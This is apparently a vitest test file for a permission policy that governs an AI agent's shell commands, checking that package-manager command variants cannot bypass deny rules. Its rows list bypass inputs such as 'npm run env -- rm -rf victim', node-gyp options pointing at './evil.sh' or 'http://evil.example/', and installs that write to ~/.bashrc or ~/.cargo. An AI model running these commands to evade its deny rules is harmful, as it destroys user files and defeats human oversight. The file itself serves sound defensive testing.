import { beforeAll, describe, expect, test } from 'vitest';
import type { DefaultMode } from '../../src/policy/types.js';
import { commandWorkspace, decideInWorkspace, MODES } from '../helpers/policy.js';

/**
 * Round 27's review, the package-manager findings (docs/threat-model.md#round-27-the-review-of-round-26):
 * each row was allowed in every mode before its fix, decided in a fresh workspace.
 */

let W = '';
let home = '';
beforeAll(async () => {
  ({ work: W, home } = await commandWorkspace('review27-'));
});

type Rules = { allow?: string[]; ask?: string[]; deny?: string[] };
const shell = (command: string, mode: DefaultMode, rules: Rules) => decideInWorkspace(command, mode, rules, W, home);
/** Refused in a mode that asks or denies; in bypassPermissions (deny rules present) asks at least. */
const notAllowed = (command: string, mode: DefaultMode, rules: Rules): void => {
  const decision = shell(command, mode, rules);
  expect(decision.verdict, `${mode} ${command}: ${decision.reason}`).not.toBe('allow');
};

const rows: Array<[string, Rules, string[]]> = [
  ['R27-2 npm run env ARGS', { allow: ['Bash(npm run:*)'], deny: ['Bash(rm *)'] }, ['npm run env -- rm -rf victim', 'npm run env rm victim', "npm run env -- sh -c 'rm -rf victim'", 'npm run-script env -- rm -rf x', 'npm rum --silent env -- rm -rf x', 'npm run env -w a -- rm -rf x']],
  ['R27-6 npm unknown keys to node-gyp', { allow: ['Bash(npm install:*)', 'Bash(npm test:*)', 'Bash(npm run:*)', 'Bash(npm ci:*)'], deny: ['Bash(rm *)'] }, ['npm install --python=./evil.sh', 'npm test --make=./evilmake', 'npm test --nodedir=/tmp/x', 'npm run build --python=./evil.sh', 'npm ci --devdir=/tmp/x', 'npm test --dist_url=http://evil.example/', 'npm test --directory=../other']],
  ['R27-6 node-gyp keys as npm_config_ variables', { deny: ['Bash(rm *)'] }, ['npm_config_python=./evil.sh npm test', 'NPM_CONFIG_MAKE=./x npm test', 'npm_config_nodedir=/tmp/x npm install']],
  ['R27-3 npm --local=false is global', { allow: ['Bash(npm install:*)', 'Bash(npm i:*)'], deny: ['Edit(/usr/**)'] }, ['npm install --local=false ./pkg', 'npm i --local=false ./pkg', 'npm install ---local=false ./pkg', 'npm install --local false ./pkg', 'npm install --local=0 ./pkg']],
  ['R27-8 cargo install writes ~/.cargo/bin', { allow: ['Bash(cargo:*)'], deny: ['Edit(~/.cargo/**)'] }, ['cargo install --path .', 'cargo install --path . --force', 'cargo install ripgrep', 'cargo +stable install ripgrep', 'cargo uninstall ripgrep']],
  ['R27-10 pnpm setup writes ~/.bashrc', { allow: ['Bash(pnpm:*)'], deny: ['Edit(~/.bashrc)'] }, ['pnpm setup', 'pnpm setup --force', 'pnpm self-update', 'pnpm env use --global 20', 'pnpm env use -g lts']],
  ['R27-10 bun upgrade replaces bun', { allow: ['Bash(bun:*)'], deny: ['Edit(~/.bun/**)'] }, ['bun upgrade', 'bun upgrade --canary']],
  ['R27-15 bun run command', { allow: ['Bash(bun run:*)', 'Bash(pnpm:*)'], deny: ['Bash(rm *)'] }, ['bun run command rm -rf v', 'bun run builtin rm -rf v', 'pnpm command rm -rf v']],
  ['R27-13 pnpm --npm-path', { allow: ['Bash(pnpm:*)'], deny: ['Bash(rm *)'] }, ['pnpm publish --no-git-checks --npm-path=./x.sh', 'pnpm publish --npm-path ./x.sh', 'pnpm config set npm-path ./x.sh']],
];

describe.each(rows)('%s', (_name, rules, commands) => {
  test.each(MODES)('%s: not allowed', (mode) => {
    for (const command of commands) notAllowed(command, mode, rules);
  });
});

describe('stay allowed', () => {
  test.each([
    ['npm run env', { allow: ['Bash(npm run:*)'], deny: ['Bash(rm *)'] }],
    ['npm run env -- printenv HOME', { allow: ['Bash(npm run:*)'], deny: ['Bash(rm *)'] }],
    ['npm run build -- --watch', { allow: ['Bash(npm run:*)'], deny: ['Bash(rm *)'] }],
    ['npm test --silent', { allow: ['Bash(npm test:*)'], deny: ['Bash(rm *)'] }],
    ['npm run dev --host 0.0.0.0', { allow: ['Bash(npm run:*)'], deny: ['Bash(rm *)'] }],
    ['npm install --save-dev typescript', { allow: ['Bash(npm install:*)'], deny: ['Bash(rm *)'] }],
    ['npm install ./pkg', { allow: ['Bash(npm install:*)'], deny: ['Edit(/usr/**)'] }],
    ['npm install --local ./pkg', { allow: ['Bash(npm install:*)'], deny: ['Edit(/usr/**)'] }],
    ['cargo build', { allow: ['Bash(cargo:*)'], deny: ['Edit(~/.cargo/**)'] }],
    ['cargo test', { allow: ['Bash(cargo:*)'], deny: ['Edit(~/.cargo/**)'] }],
    ['cargo install --list', { allow: ['Bash(cargo:*)'], deny: ['Edit(~/.cargo/**)'] }],
    ['pnpm install', { allow: ['Bash(pnpm:*)'], deny: ['Edit(~/.bashrc)'] }],
    ['pnpm test', { allow: ['Bash(pnpm:*)'], deny: ['Edit(~/.bashrc)'] }],
    ['pnpm env list', { allow: ['Bash(pnpm:*)'], deny: ['Edit(~/.bashrc)'] }],
    ['bun run build', { allow: ['Bash(bun run:*)'], deny: ['Bash(rm *)'] }],
    ['bun run test', { allow: ['Bash(bun run:*)'], deny: ['Bash(rm *)'] }],
    ['cd app && pnpm publish --dry-run', { allow: ['Bash(pnpm:*)'], deny: ['Bash(rm *)'] }],
  ] as Array<[string, Rules]>)('default: %s', (command, rules) => {
    const decision = shell(command, 'default', rules);
    expect(decision.verdict, decision.reason).toBe('allow');
  });
});

